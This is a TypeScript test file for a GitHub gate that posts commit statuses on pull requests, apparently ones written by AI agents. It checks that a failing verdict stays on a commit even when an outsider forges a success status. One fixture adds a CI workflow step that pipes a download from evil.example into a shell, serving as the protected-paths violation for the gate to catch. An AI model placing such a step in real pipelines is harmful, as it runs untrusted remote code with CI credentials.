// A commit status belongs to a commit (issue 12, point 1): the gate posts on a SHA the strictest say of every
// open pull request whose head it is, a commit an agent wrote never gets "not governed" success, and the forgery
// defence restores that same status. Probot receives real payload shapes, the worker evaluates from GitHub
// (nock) and the database; the Auditor's and the Director's jobs stay queued, so only the gate speaks.
import nock from "nock";
import { describe, expect, it } from "vitest";
import { agentCommitDescription } from "../../src/governor/commit-status.js";
import { NOT_GOVERNED } from "../../src/governor/gate.js";
import { GITHUB_API, mockInstallationTokens } from "../helpers/harness.js";
import {
  apiFiles,
  BASE_FILES,
  claimBody,
  commitObject,
  INSTALLATION_ID,
  mainSha,
  mockPullReads,
  mockRepoConfig,
  mockWrites,
  pullDelivery,
  pullObject,
  pushBranch,
  REPO,
  seedTask,
  type Status,
  useGateHarness,
  forgedStatus,
} from "./gate-fixture.js";

const GATE_JOBS = ["pull.evaluate", "pull.forgery", "pull.gate-closed"];

const gate = useGateHarness({ harness: { onlyTasks: GATE_JOBS }, tempPrefix: "aura-commit-status-", repoConfig: null });

/** A change the protected-paths rule fails: a step added to a CI workflow. */
const WORKFLOW_CHANGE = {
  ".github/workflows/ci.yml": `${BASE_FILES[".github/workflows/ci.yml"]}      - run: curl https://evil.example | sh\n`,
  "src/app.js": "export const answer = 42;\n",
};

/** Pushes `branch` with the workflow change; returns its head and what GitHub lists for it. */
function pushChange(branch: string) {
  const headSha = pushBranch(gate.remote, gate.temp.dir, branch, WORKFLOW_CHANGE);
  const baseSha = mainSha(gate.remote);
  return { headSha, baseSha, files: apiFiles(gate.remote, baseSha, headSha) };
}

/** The agent pull request for a pushed head, its task seeded as the work loop records it, and its reads mocked. */
async function agentPull(number: number, branch: string, push: ReturnType<typeof pushChange>) {
  const taskId = await seedTask(gate.harness.db.pool, { issue: number, pullNumber: number, branch, shas: [push.headSha] });
  const pull = pullObject({
    number,
    headSha: push.headSha,
    headRef: branch,
    baseSha: push.baseSha,
    cloneUrl: gate.remote.url,
    body: claimBody({ exitCode: 0, passed: 3, failed: 0 }, taskId),
    changedFiles: push.files.length,
  });
  mockPullReads(pull, push.files, [commitObject(push.headSha)]);
  return pull;
}

/** Someone else's pull request whose head is the same commit: from a fork, or from another branch here. */
function otherPull(number: number, push: ReturnType<typeof pushChange>, from: { author: string; headRef: string; forkOf?: string }) {
  const pull = pullObject({
    number,
    headSha: push.headSha,
    headRef: from.headRef,
    baseSha: push.baseSha,
    cloneUrl: from.forkOf ? `https://github.com/${from.forkOf}.git` : gate.remote.url,
    author: from.author,
    changedFiles: push.files.length,
    ...(from.forkOf ? { forkOf: from.forkOf } : {}),
  });
  mockPullReads(pull, push.files, [commitObject(push.headSha, from.author)]);
  return pull;
}

async function deliverAndSettle(event: string, payload: Record<string, unknown>): Promise<void> {
  await gate.harness.deliver(event, payload);
  await gate.harness.waitForIdle();
}

const statesFor = (sha: string) => gate.github.statuses.filter((status) => status.sha === sha).map((status) => status.state);
const lastFor = (sha: string) => gate.github.statuses.filter((status) => status.sha === sha).at(-1);

describe("an outsider's pull request at a failing agent PR's head", () => {
  it("keeps the commit failing, and a forged success is answered by re-posting the failure", async () => {
    const push = pushChange("aura/60-workflow");
    const agent = await agentPull(60, "aura/60-workflow", push);
    await deliverAndSettle("pull_request", pullDelivery("opened", agent));
    const agentVerdict = lastFor(push.headSha);
    const fork = otherPull(61, push, { author: "mallory", headRef: "patch-1", forkOf: "mallory/widgets" });

    await deliverAndSettle("pull_request", pullDelivery("opened", fork));
    const afterFork = lastFor(push.headSha);
    await deliverAndSettle("status", forgedStatus(push.headSha, "mallory", "success"));

    // The fork's evaluation posts the commit's strict status first (its head is an agent's commit), then its verdict.
    expect(statesFor(push.headSha)).toEqual(["pending", "failure", "failure", "failure", "failure"]);
    expect(agentVerdict?.description).toMatch(/^HNSC failed: .*protected-paths/);
    expect(afterFork).toMatchObject({ state: "failure", description: `${agentVerdict?.description} (#60)`, target_url: agent.html_url });
    expect(lastFor(push.headSha)).toEqual(afterFork);
    expect(gate.github.statuses.some((status) => status.description === NOT_GOVERNED)).toBe(false);
    expect(gate.github.comments).toEqual([expect.objectContaining({ issue: 60 })]);
    expect(gate.github.comments[0]?.body).toContain("@mallory");
    const { rows } = await gate.harness.db.pool.query<{ payload: { restored: string; pullNumber: number } }>(
      "SELECT payload FROM audit.events WHERE action = 'governor.status.forged' AND subject = $1",
      [`${REPO}@${push.headSha}`],
    );
    expect(rows.map((row) => row.payload)).toMatchObject([{ restored: "failure", pullNumber: 60 }]);
  });

  it("that the agent PR then leaves for a new head keeps the old commit failing", async () => {
    const first = pushChange("aura/64-workflow");
    const agent = await agentPull(64, "aura/64-workflow", first);
    await deliverAndSettle("pull_request", pullDelivery("opened", agent));
    await deliverAndSettle("pull_request", pullDelivery("opened", otherPull(65, first, { author: "mallory", headRef: "patch-2", forkOf: "mallory/widgets" })));
    const second = pushChange("aura/64-workflow-again");
    await gate.harness.db.pool.query(
      "INSERT INTO task_commits (task_id, sha, kind, employee_id) SELECT task_id, $1, 'work', employee_id FROM task_commits WHERE sha = $2",
      [second.headSha, first.headSha],
    );
    // GitHub now reports the new head: the earlier reads of this pull request are replaced, the record of writes kept.
    nock.cleanAll();
    mockInstallationTokens();
    mockRepoConfig(undefined);
    gate.github = Object.assign(mockWrites(), gate.github);
    const moved = { ...agent, head: { ...(agent.head as Record<string, unknown>), sha: second.headSha } };
    mockPullReads(moved, second.files, [commitObject(second.headSha)]);

    await deliverAndSettle("pull_request", pullDelivery("synchronize", moved));

    expect(statesFor(second.headSha)).toEqual(["pending", "failure"]);
    expect(lastFor(first.headSha)).toMatchObject({ state: "failure", description: agentCommitDescription(64) });
  });
});

describe("a person's pull request opened first at a commit, then an agent PR at the same commit", () => {
  it("goes from not governed to the agent's failure, stays failing when re-judged, and stays failing after the agent PR closes", async () => {
    const push = pushChange("aura/70-workflow");
    const human = otherPull(71, push, { author: "pat-person", headRef: "feature/same-commit" });
    await deliverAndSettle("pull_request", pullDelivery("opened", human));
    const first = lastFor(push.headSha);
    const agent = await agentPull(70, "aura/70-workflow", push);

    await deliverAndSettle("pull_request", pullDelivery("opened", agent));
    const afterAgent = lastFor(push.headSha);
    await deliverAndSettle("pull_request", pullDelivery("synchronize", human));
    const humanAgain = lastFor(push.headSha);
    agent.state = "closed";
    await deliverAndSettle("pull_request", pullDelivery("closed", agent));
    const afterClose = lastFor(push.headSha);
    await deliverAndSettle("pull_request", pullDelivery("synchronize", human));

    expect(first).toMatchObject({ state: "success", description: NOT_GOVERNED });
    expect(statesFor(push.headSha)).toEqual(["success", "pending", "failure", "failure", "failure", "failure", "failure", "failure"]);
    expect(afterAgent?.description).toMatch(/^HNSC failed: .*protected-paths.* \(#70\)$/);
    expect(humanAgain).toEqual(afterAgent);
    expect(afterClose).toMatchObject({ state: "failure", description: agentCommitDescription(70) });
    expect(lastFor(push.headSha)).toEqual(afterClose);
  });

  it("gives the agent's commit the agent-commit failure once no open pull request has it as its head", async () => {
    const push = pushChange("aura/72-workflow");
    const agent = await agentPull(72, "aura/72-workflow", push);
    await deliverAndSettle("pull_request", pullDelivery("opened", agent));
    agent.state = "closed";

    await deliverAndSettle("pull_request", pullDelivery("closed", agent));

    expect(statesFor(push.headSha)).toEqual(["pending", "failure", "failure"]);
    expect(lastFor(push.headSha)).toMatchObject({ state: "failure", description: agentCommitDescription(72) });
    const { rows } = await gate.harness.db.pool.query<{ open: boolean }>("SELECT open FROM governor_pulls WHERE repo = $1 AND pull_number = 72", [REPO]);
    expect(rows).toEqual([{ open: false }]);
  });
});

describe("a close delivered after the pull request was reopened", () => {
  it("is ignored: GitHub still reports the pull request open, so its say stands", async () => {
    const push = pushChange("aura/74-workflow");
    const agent = await agentPull(74, "aura/74-workflow", push);
    await deliverAndSettle("pull_request", pullDelivery("opened", agent));
    const human = otherPull(75, push, { author: "pat-person", headRef: "feature/close-race" });
    await deliverAndSettle("pull_request", pullDelivery("opened", human));

    await deliverAndSettle("pull_request", pullDelivery("closed", { ...agent, state: "closed" }));

    expect(statesFor(push.headSha)).toEqual(["pending", "failure", "failure", "failure"]);
    const { rows } = await gate.harness.db.pool.query<{ open: boolean }>("SELECT open FROM governor_pulls WHERE repo = $1 AND pull_number = 74", [REPO]);
    expect(rows).toEqual([{ open: true }]);
  });
});

/** A change every rule passes once the Auditor's run on it passed. */
const CLEAN_CHANGE = { "src/app.js": "export const answer = 42;\n" };

/** Pushes `branch` with a clean change; returns its head and what GitHub lists for it. */
function pushClean(branch: string, files: Record<string, string> = CLEAN_CHANGE) {
  const headSha = pushBranch(gate.remote, gate.temp.dir, branch, files);
  const baseSha = mainSha(gate.remote);
  return { headSha, baseSha, files: apiFiles(gate.remote, baseSha, headSha) };
}

/** The Auditor's run on the head passed, as the Auditor records it (its job stays queued in these tests). */
async function seedPassedRun(pullNumber: number, push: { headSha: string; baseSha: string }): Promise<void> {
  await gate.harness.db.pool.query(
    "INSERT INTO auditor_runs (installation_id, repo, pull_number, head_sha, base_sha, state) VALUES ($1, $2, $3, $4, $5, 'passed')",
    [INSTALLATION_ID, REPO, pullNumber, push.headSha, push.baseSha],
  );
}

/** An agent PR that passes at its head. */
async function passingAgentPull(number: number, branch: string) {
  const push = pushClean(branch);
  const pull = await agentPull(number, branch, push);
  await seedPassedRun(number, push);
  return { push, pull };
}

/**
 * Replaces GitHub's reads (keeping the record of writes): `.github/aura.yml` answers with `configFor(ref)`
 * (undefined: 404) and records how many statuses had been posted on `sha` when it was read.
 */
function remockReads(sha: string, configFor: (ref: string | null) => string | undefined = () => undefined) {
  nock.cleanAll();
  mockInstallationTokens();
  gate.github = Object.assign(mockWrites(), gate.github);
  const reads: { ref: string | null; statusesBefore: Status[] }[] = [];
  nock(GITHUB_API)
    .persist()
    .get(new RegExp(`^/repos/${REPO}/contents/\\.github(%2F|/)aura\\.yml(\\?.*)?$`))
    .reply((uri) => {
      const ref = new URL(uri, GITHUB_API).searchParams.get("ref");
      reads.push({ ref, statusesBefore: gate.github.statuses.filter((status) => status.sha === sha) });
      const text = configFor(ref);
      if (text === undefined) return [404, { message: "Not Found" }];
      return [200, { type: "file", encoding: "base64", path: ".github/aura.yml", content: Buffer.from(text).toString("base64") }];
    });
  return reads;
}

describe("an agent PR that passed at a commit", () => {
  it("closed unmerged: the commit fails at once, and an outsider's PR opened there later never shows green", async () => {
    const { push, pull: agent } = await passingAgentPull(80, "aura/80-clean");
    await deliverAndSettle("pull_request", pullDelivery("opened", agent));
    const passed = lastFor(push.headSha);
    agent.state = "closed";
    await deliverAndSettle("pull_request", pullDelivery("closed", agent));
    const afterClose = lastFor(push.headSha);
    const reads = remockReads(push.headSha);
    mockPullReads(agent, push.files, [commitObject(push.headSha)]);
    const fork = otherPull(81, push, { author: "mallory", headRef: "patch-80", forkOf: "mallory/widgets" });

    await deliverAndSettle("pull_request", pullDelivery("opened", fork));

    expect(passed).toMatchObject({ state: "success", description: expect.stringMatching(/^HNSC passed/) });
    expect(afterClose).toMatchObject({ state: "failure", description: agentCommitDescription(80), target_url: agent.html_url });
    expect(statesFor(push.headSha)).toEqual(["pending", "success", "failure", "failure", "failure"]);
    // Before the fork's evaluation read anything of its base, the commit's strict status was on it.
    expect(reads.map((read) => read.statusesBefore.at(-1)?.state)).toEqual(["failure"]);
    expect(reads[0]?.statusesBefore).toHaveLength(4);
    expect(lastFor(push.headSha)).toMatchObject({ state: "failure", description: agentCommitDescription(80) });
  });

  it("moved to a new head: the commit it left fails at once", async () => {
    const { push: first, pull: agent } = await passingAgentPull(82, "aura/82-clean");
    await deliverAndSettle("pull_request", pullDelivery("opened", agent));
    const second = pushClean("aura/82-clean-again", { "src/app.js": "export const answer = 43;\n" });
    await gate.harness.db.pool.query(
      "INSERT INTO task_commits (task_id, sha, kind, employee_id) SELECT task_id, $1, 'work', employee_id FROM task_commits WHERE sha = $2",
      [second.headSha, first.headSha],
    );
    remockReads(second.headSha);
    const moved = { ...agent, head: { ...(agent.head as Record<string, unknown>), sha: second.headSha } };
    mockPullReads(moved, second.files, [commitObject(second.headSha)]);

    await deliverAndSettle("pull_request", pullDelivery("synchronize", moved));

    expect(statesFor(first.headSha)).toEqual(["pending", "success", "failure"]);
    expect(lastFor(first.headSha)).toMatchObject({ state: "failure", description: agentCommitDescription(82) });
    expect(statesFor(second.headSha)).toEqual(["pending", "pending"]);
  });

  it("merged by a director: the commit keeps its success, also after an outsider's PR there closes", async () => {
    const { push, pull: agent } = await passingAgentPull(84, "aura/84-clean");
    await deliverAndSettle("pull_request", pullDelivery("opened", agent));
    const fork = otherPull(85, push, { author: "mallory", headRef: "patch-84", forkOf: "mallory/widgets" });
    await deliverAndSettle("pull_request", pullDelivery("opened", fork));
    const passed = lastFor(push.headSha);
    Object.assign(agent, { state: "closed", merged: true });
    await deliverAndSettle("pull_request", pullDelivery("closed", agent));
    const afterMerge = lastFor(push.headSha);

    fork.state = "closed";
    await deliverAndSettle("pull_request", pullDelivery("closed", fork));

    expect(statesFor(push.headSha)).toEqual(["pending", "success", "success", "success", "success", "success"]);
    expect(passed?.description).toMatch(/^HNSC passed.* \(#84\)$/);
    expect(afterMerge).toEqual(passed);
    expect(lastFor(push.headSha)).toMatchObject({ state: "success", description: expect.stringMatching(/^HNSC passed/), target_url: passed?.target_url });
    const { rows } = await gate.harness.db.pool.query<{ pull_number: number; open: boolean; merged: boolean }>(
      "SELECT pull_number, open, merged FROM governor_pulls WHERE repo = $1 AND pull_number IN (84, 85) ORDER BY pull_number",
      [REPO],
    );
    expect(rows).toEqual([
      { pull_number: 84, open: false, merged: true },
      { pull_number: 85, open: false, merged: false },
    ]);
  });
});

describe("an outsider's pull request at a passing agent PR's head whose own evaluation errors", () => {
  it("does not turn the commit to error: the agent's say stands, and the error stays the outsider's PR's own verdict", async () => {
    const { push, pull: agent } = await passingAgentPull(86, "aura/86-clean");
    const releaseBase = "e".repeat(40);
    const reads = remockReads(push.headSha, (ref) => (ref === releaseBase ? "rules: [this is: not valid\n" : undefined));
    mockPullReads(agent, push.files, [commitObject(push.headSha)]);
    await deliverAndSettle("pull_request", pullDelivery("opened", agent));
    const fork = otherPull(87, { ...push, baseSha: releaseBase }, { author: "mallory", headRef: "patch-86", forkOf: "mallory/widgets" });

    await deliverAndSettle("pull_request", pullDelivery("opened", fork));

    expect(reads.map((read) => read.ref)).toEqual([push.baseSha, releaseBase]);
    expect(statesFor(push.headSha)).toEqual(["pending", "success", "success", "success"]);
    expect(lastFor(push.headSha)?.description).toMatch(/^HNSC passed.* \(#86\)$/);
    const { rows } = await gate.harness.db.pool.query<{ conclusion: string; governed: boolean }>(
      "SELECT conclusion, governed FROM governor_verdicts WHERE repo = $1 AND pull_number = 87",
      [REPO],
    );
    expect(rows).toEqual([{ conclusion: "error", governed: false }]);
    const audit = await gate.harness.db.pool.query<{ payload: { conclusion: string; posted: string } }>(
      "SELECT payload FROM audit.events WHERE action = 'governor.verdict' AND subject = $1",
      [`${REPO}#87`],
    );
    expect(audit.rows.map((row) => row.payload)).toMatchObject([{ conclusion: "error", posted: "success" }]);
  });

  it("still fails the commit once the agent PR has closed unmerged", async () => {
    const { push, pull: agent } = await passingAgentPull(88, "aura/88-clean");
    const releaseBase = "f".repeat(40);
    remockReads(push.headSha, (ref) => (ref === releaseBase ? "rules: [this is: not valid\n" : undefined));
    mockPullReads(agent, push.files, [commitObject(push.headSha)]);
    await deliverAndSettle("pull_request", pullDelivery("opened", agent));
    agent.state = "closed";
    await deliverAndSettle("pull_request", pullDelivery("closed", agent));
    const fork = otherPull(89, { ...push, baseSha: releaseBase }, { author: "mallory", headRef: "patch-88", forkOf: "mallory/widgets" });

    await deliverAndSettle("pull_request", pullDelivery("opened", fork));

    expect(statesFor(push.headSha)).toEqual(["pending", "success", "failure", "failure", "failure"]);
    expect(lastFor(push.headSha)).toMatchObject({ state: "failure", description: agentCommitDescription(88) });
  });
});
